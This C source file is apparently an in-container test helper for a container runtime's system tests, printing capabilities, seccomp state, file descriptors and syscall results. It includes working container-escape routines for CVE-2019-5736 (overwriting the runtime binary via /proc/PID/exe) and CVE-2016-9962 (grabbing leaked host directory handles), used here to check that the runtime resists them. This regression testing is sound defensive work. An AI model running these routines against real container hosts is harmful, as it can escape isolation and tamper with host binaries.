/* testinit: a static in-container witness for the system tests (crun's tests/init.c idea).
 * Assertions become exact: it prints kernel facts instead of parsing a distro's tools.
 *   testinit true | exit N | echo ARGS... | cat | fds | caps | nnp | seccomp | hostname | pause
 *            | write PATH TEXT | syscall mount|unshare|keyctl
 *            | notify MSG (one sd_notify datagram to $NOTIFY_SOCKET, e.g. READY=1)
 *            | accept3 (socket activation: answers one connection on fd 3 with its LISTEN_ vars)
 *            | fd-race SECONDS (CVE-2016-9962 attacker) | setcap PATH BIT (file caps BIT+ei)
 *            | statfs PATH (the filesystem's magic, hex) */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <time.h>
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

static int status_field(const char* key) {
  FILE* f = fopen("/proc/self/status", "r");
  char line[256];
  if (!f) return 1;
  while (fgets(line, sizeof line, f))
    if (strncmp(line, key, strlen(key)) == 0) {
      fputs(line + strlen(key) + 1 + strspn(line + strlen(key) + 1, " \t"), stdout);
      fclose(f);
      return 0;
    }
  fclose(f);
  return 1;
}

// CVE-2019-5736 attacker: for SECONDS, open /proc/PID/exe of every other process that shows up
// (berth's exec children among them) and keep what is not the container's own binaries; then,
// once those processes are gone, try to write each kept file. Prints "seen NAME" for each, and
// "WROTE NAME" when a write succeeded (the attack worked).
static int exe_race(int seconds) {
  int kept[256], n = 0;
  char names[256][128];
  time_t end = time(NULL) + seconds;
  int self = getpid();
  while (time(NULL) < end && n < 256) {
    DIR* d = opendir("/proc");
    struct dirent* e;
    while (d && (e = readdir(d)) && n < 256) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == self) continue;
      char path[64], target[128] = "";
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
      ssize_t len = readlink(path, target, sizeof target - 1);
      target[len > 0 ? len : 0] = 0;
      if (strstr(target, "busybox") || strstr(target, "testinit")) {
        close(fd);
        continue;
      }
      kept[n] = fd;
      snprintf(names[n], sizeof names[n], "%s", target);
      n++;
      printf("seen %s\n", target);
    }
    if (d) closedir(d);
  }
  sleep(1);
  for (int i = 0; i < n; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
    int w = open(path, O_WRONLY | O_APPEND);
    if (w >= 0 && write(w, "x", 1) == 1) printf("WROTE %s\n", names[i]);
  }
  fflush(stdout);
  return 0;
}

// CVE-2016-9962 attacker: for SECONDS, try to open as a directory every /proc/PID/fd/N,
// /proc/PID/cwd and /proc/PID/root of every other process (berth's exec children among them).
// A directory that is on none of the container's own filesystems came from the host: printed
// as "OPENED path -> target". Prints "tried N" at the end.
static int fd_race(int seconds) {
  dev_t own[16];
  int nown = 0;
  const char* mine[] = {"/", "/proc", "/dev", "/dev/pts", "/dev/shm", "/dev/mqueue", "/sys", "/etc/hosts", "/tmp"};
  for (unsigned i = 0; i < sizeof mine / sizeof *mine; i++) {
    struct stat st;
    if (stat(mine[i], &st) == 0) own[nown++] = st.st_dev;
  }
  long tried = 0;
  time_t end = time(NULL) + seconds;
  int self = getpid();
  while (time(NULL) < end) {
    DIR* d = opendir("/proc");
    struct dirent* e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == self) continue;
      char names[64][300];
      int n = 0;
      snprintf(names[n++], sizeof names[0], "/proc/%d/cwd", pid);
      snprintf(names[n++], sizeof names[0], "/proc/%d/root", pid);
      char fdd[64];
      snprintf(fdd, sizeof fdd, "/proc/%d/fd", pid);
      DIR* f = opendir(fdd);
      struct dirent* fe;
      while (f && n < 64 && (fe = readdir(f)))
        if (fe->d_name[0] != '.') snprintf(names[n++], sizeof names[0], "/proc/%d/fd/%.200s", pid, fe->d_name);
      for (int k = 0; k < n; k++) {
        int fd = open(names[k], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        tried++;
        if (fd < 0) continue;
        struct stat st;
        int inside = 0;
        if (fstat(fd, &st) == 0)
          for (int i = 0; i < nown; i++) inside |= st.st_dev == own[i];
        if (!inside) {
          char target[256] = "";
          ssize_t len = readlink(names[k], target, sizeof target - 1);
          target[len > 0 ? len : 0] = 0;
          printf("OPENED %s -> %s\n", names[k], target);
        }
        close(fd);
      }
      if (f) closedir(f);
    }
    if (d) closedir(d);
  }
  printf("tried %ld\n", tried);
  fflush(stdout);
  return 0;
}

// A file capability set as `setcap cap_BIT+ei PATH` would: effective and inheritable, nothing
// permitted (so a process gains BIT only through its own inheritable set: CVE-2022-29162).
static int set_file_cap(const char* path, int bit) {
  unsigned int v[5] = {0x02000000u | 1u, 0, 0, 0, 0};  // VFS_CAP_REVISION_2 | EFFECTIVE
  v[bit < 32 ? 2 : 4] = 1u << (bit % 32);              // inheritable word
  if (setxattr(path, "security.capability", v, sizeof v, 0) != 0) {
    perror("setxattr security.capability");
    return 1;
  }
  return 0;
}

int main(int argc, char** argv) {
  if (argc < 2 || strcmp(argv[1], "true") == 0) return 0;
  const char* cmd = argv[1];
  if (strcmp(cmd, "exit") == 0) return argc > 2 ? atoi(argv[2]) : 0;
  if (strcmp(cmd, "accept3") == 0) {
    int c = accept(3, NULL, NULL);
    if (c < 0) {
      perror("accept on fd 3");
      return 1;
    }
    char msg[256];
    const char *p = getenv("LISTEN_PID"), *n = getenv("LISTEN_FDS");
    int len = snprintf(msg, sizeof msg, "activated pid=%s fds=%s\n", p ? p : "-", n ? n : "-");
    if (write(c, msg, (size_t)len) < 0) return 1;
    close(c);
    return 0;
  }
  if (strcmp(cmd, "notify") == 0 && argc > 2) {
    const char* path = getenv("NOTIFY_SOCKET");
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    if (!path || strlen(path) >= sizeof sa.sun_path) return 2;
    strcpy(sa.sun_path, path);
    if (sa.sun_path[0] == '@') sa.sun_path[0] = 0;
    int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || sendto(fd, argv[2], strlen(argv[2]), 0, (struct sockaddr*)&sa, sizeof sa) < 0) {
      perror("notify");
      return 1;
    }
    return 0;
  }
  if (strcmp(cmd, "echo") == 0) {
    for (int i = 2; i < argc; i++) printf("%s%s", argv[i], i + 1 < argc ? " " : "\n");
    return 0;
  }
  if (strcmp(cmd, "cat") == 0) {
    char buf[65536];
    ssize_t n;
    while ((n = read(0, buf, sizeof buf)) > 0)
      if (write(1, buf, (size_t)n) != n) return 1;
    return n < 0;
  }
  if (strcmp(cmd, "fds") == 0) {
    DIR* d = opendir("/proc/self/fd");
    struct dirent* e;
    int self = dirfd(d);
    while ((e = readdir(d)))
      if (e->d_name[0] != '.' && atoi(e->d_name) != self) printf("%s\n", e->d_name);
    return 0;
  }
  if (strcmp(cmd, "caps") == 0) return status_field("CapEff:");
  if (strcmp(cmd, "nnp") == 0) return status_field("NoNewPrivs:");
  if (strcmp(cmd, "seccomp") == 0) return status_field("Seccomp:");
  if (strcmp(cmd, "hostname") == 0) {
    char h[256];
    gethostname(h, sizeof h);
    printf("%s\n", h);
    return 0;
  }
  if (strcmp(cmd, "pause") == 0) {
    for (;;) pause();
  }
  if (strcmp(cmd, "write") == 0 && argc > 3) {
    FILE* f = fopen(argv[2], "w");
    if (!f) {
      perror(argv[2]);
      return 1;
    }
    fputs(argv[3], f);
    return fclose(f) != 0;
  }
  if (strcmp(cmd, "syscall") == 0 && argc > 2) {
    long r = -1;
    if (strcmp(argv[2], "mount") == 0)
      r = mount("none", "/mnt", "tmpfs", 0, NULL);
    else if (strcmp(argv[2], "unshare") == 0)
      r = unshare(CLONE_NEWNS);
    else if (strcmp(argv[2], "keyctl") == 0)
      r = syscall(SYS_keyctl, 0, 0, 0, 0, 0);
    else if (strcmp(argv[2], "kexec") == 0)
      r = syscall(SYS_kexec_load, 0, 0, 0, 0);
    else if (strcmp(argv[2], "init_module") == 0)
      r = syscall(SYS_init_module, 0, 0, "");
    printf("%s\n", r == 0 ? "allowed" : strerror(errno));
    return 0;
  }
  if (strcmp(cmd, "exe-race") == 0 && argc > 2) return exe_race(atoi(argv[2]));
  if (strcmp(cmd, "fd-race") == 0 && argc > 2) return fd_race(atoi(argv[2]));
  if (strcmp(cmd, "setcap") == 0 && argc > 3) return set_file_cap(argv[2], atoi(argv[3]));
  if (strcmp(cmd, "statfs") == 0 && argc > 2) {
    struct statfs sf;
    if (statfs(argv[2], &sf) != 0) {
      perror(argv[2]);
      return 1;
    }
    printf("%lx\n", (unsigned long)sf.f_type);
    return 0;
  }
  if (strcmp(cmd, "setxattr") == 0 && argc > 4) {
    if (setxattr(argv[2], argv[3], argv[4], strlen(argv[4]), 0) != 0) {
      perror("setxattr");
      return 1;
    }
    return 0;
  }
  if (strcmp(cmd, "getxattr") == 0 && argc > 3) {
    char v[256];
    ssize_t n = getxattr(argv[2], argv[3], v, sizeof v - 1);
    if (n < 0) {
      perror("getxattr");
      return 1;
    }
    v[n] = 0;
    printf("%s\n", v);
    return 0;
  }
  fprintf(stderr, "testinit: unknown command %s\n", cmd);
  return 2;
}
